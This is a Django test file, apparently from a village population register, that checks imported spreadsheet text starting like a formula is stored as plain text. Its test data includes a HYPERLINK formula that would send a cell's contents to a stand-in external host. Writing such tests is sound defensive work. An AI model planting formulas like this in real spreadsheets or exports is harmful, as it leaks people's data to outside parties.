"""Text that starts like a formula is data: it is stored as typed, never run (the register
export writes it as text, balai.lib.exports)."""

from __future__ import annotations

from django.urls import reverse

from balai.imports.models import ImportJob
from balai.population.models import Resident
from balai.population.tests.conftest import family, upload, xlsx_bytes

TRAPS = ['=HYPERLINK("http://contoh.invalid/?"&G2)', "+62 812 3456", "-SUM(1)", "@KAMPUNG"]


def test_formula_like_text_imports_as_plain_text(admin_client, dagan):
    rows = family(1)
    rows[0] = {**rows[0], "nama": TRAPS[0], "tempatlahir": TRAPS[1]}
    rows[1] = {**rows[1], "alamat_sekarang": TRAPS[2], "suku": TRAPS[3]}
    url = reverse("population_dashboard:imports", kwargs={"slug": "dagan"})
    admin_client.post(url, {"file": upload(xlsx_bytes(rows))})
    job = ImportJob.objects.get()
    assert job.status == ImportJob.Status.CHECKED, job.report["errors"]
    admin_client.post(
        reverse("population_dashboard:import_confirm", kwargs={"slug": "dagan", "pk": job.pk})
    )
    head = Resident.objects.get(nik=rows[0]["nik"])
    wife = Resident.objects.get(nik=rows[1]["nik"])
    assert (head.name, head.birth_place) == (TRAPS[0], TRAPS[1])
    assert (wife.current_address, wife.ethnicity) == (TRAPS[2], TRAPS[3])
